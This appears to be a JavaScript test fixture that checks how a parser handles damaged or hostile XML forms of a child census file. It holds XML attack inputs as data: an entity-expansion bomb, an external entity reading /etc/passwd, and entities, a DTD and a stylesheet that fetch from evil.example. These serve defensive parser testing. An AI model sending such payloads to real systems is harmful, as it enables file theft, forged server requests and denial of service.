// The census as XML that is damaged, that would fetch or multiply something, or is not the census.

import { alike, refused, same_as } from '../expects.mjs';

const child = (i, more = '') =>
  `<Child><ChildIdentifiers><LAchildID>K${i}</LAchildID></ChildIdentifiers><CINdetails>` +
  `<CINreferralDate>2018-04-${10 + i}</CINreferralDate><ReferralSource>6</ReferralSource>` +
  `<Assessments><AssessmentActualStartDate>2018-04-${12 + i}</AssessmentActualStartDate>` +
  `<AssessmentAuthorisationDate>2018-05-${10 + i}</AssessmentAuthorisationDate></Assessments>` +
  `<ReferralNFA>0</ReferralNFA>${more}</CINdetails></Child>\n`;
const start = '<?xml version="1.0" encoding="utf-8"?>\n';
const head =
  '<Message><Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header>\n';
const rows = Array.from({ length: 9 }, (_, i) => child(i)).join('');
const census = (inside = rows, doctype = '') =>
  `${start}${doctype}${head}<Children>${inside}</Children></Message>\n`;
const whole = census();
const with_entity = (definition, use = '&a;') =>
  census(child(1).replace('K1', use) + rows, `<!DOCTYPE Message [${definition}]>\n`);

const laughs = Array.from(
  { length: 12 },
  (_, i) => `<!ENTITY a${i} "${i === 0 ? 'ha' : `&a${i - 1};`.repeat(10)}">`,
).join('');

const entities = {
  'an entity bomb': with_entity(laughs, '&a11;'),
  'an entity of itself': with_entity('<!ENTITY a "&a;">'),
  'a file as an entity': with_entity('<!ENTITY a SYSTEM "file:///etc/passwd">'),
  'an address as an entity': with_entity('<!ENTITY a SYSTEM "http://evil.example/x">'),
  'a parameter entity': with_entity('<!ENTITY % a SYSTEM "http://evil.example/x"> %a;', 'K1'),
  'an entity nobody defined': census(child(1).replace('K1', '&other;') + rows),
  'a character that cannot be': census(child(1).replace('K1', 'K&#0;') + rows),
  'a character beyond Unicode': census(child(1).replace('K1', 'K&#x110000;') + rows),
};

const damaged = {
  'without an end': whole.slice(0, -30),
  'with an end of another name': whole.replace('</Children>', '</Kinder>'),
  'with an attribute left open': whole.replace('<Children>', '<Children a="1>'),
  'with a comment left open': whole.replace('<Children>', '<Children><!-- '),
  'with character data left open': whole.replace('<Children>', '<Children><![CDATA['),
  'with two roots': whole + whole.slice(start.length),
  'with text behind its end': `${whole}more`,
  'with a NUL': whole.replace('K3', 'K\u00003'),
  'of elements nested ten thousand deep': census('<a>'.repeat(10_000) + '</a>'.repeat(10_000)),
  'of elements nested a million deep': census('<a>'.repeat(1e6)),
  'of children nested in children': census('<Child>'.repeat(5000) + '</Child>'.repeat(5000)),
  'that is UTF-8 broken in an id': Buffer.concat(
    whole
      .split('K3')
      .flatMap((part, i) => [...(i ? [Buffer.from([0xc3, 0x28])] : []), Buffer.from(part)]),
  ),
};

export const xml = [
  ...Object.entries(entities).map(([what, bytes]) => ({
    name: `a census with ${what}`,
    bytes,
    expects: refused(/line \d+/),
  })),
  ...Object.entries(damaged).map(([what, bytes]) => ({
    name: `a census ${what}`,
    bytes,
    expects: { whole_or_refused: whole },
  })),
  ...Array.from({ length: 20 }, (_, i) => {
    const at = Math.floor((whole.length * (i + 0.5)) / 20);
    return {
      name: `a census cut off at ${Math.round((100 * at) / whole.length)}%`,
      bytes: whole.slice(0, at),
      expects: refused(/./),
    };
  }),
  {
    name: 'a census with an entity of ten million letters',
    bytes: with_entity(`<!ENTITY a "${'x'.repeat(1e7)}">`),
    expects: refused(/XML/),
  },
  {
    name: 'a census with a document type elsewhere',
    bytes: census(rows, '<!DOCTYPE Message SYSTEM "http://evil.example/x.dtd">\n'),
    expects: same_as(whole),
  },
  {
    name: 'a census with programs to be run',
    bytes: `<?xml-stylesheet href="http://evil.example/x.xsl"?>\n${whole.slice(start.length)}`,
    expects: same_as(whole),
  },
  {
    name: 'a census with markup in ids',
    bytes: census(rows.replaceAll('K', '&lt;script&gt;window.__hostile=1&lt;/script&gt;')),
    expects: same_as(whole),
  },
  {
    name: 'a census with a source of a million letters',
    bytes: whole.replace('>6<', `>${'x'.repeat(1e6)}<`),
    expects: alike(whole.replace('>6<', '>Zebra<')),
  },
  {
    name: 'a census with a million attributes',
    bytes: whole.replace(
      '<Children>',
      `<Children ${Array.from({ length: 1e5 }, (_, i) => `a${i}="${i}"`).join(' ')}>`,
    ),
    expects: same_as(whole),
  },
  { name: 'a census without children', bytes: census(''), expects: { at_least: 0 } },
];
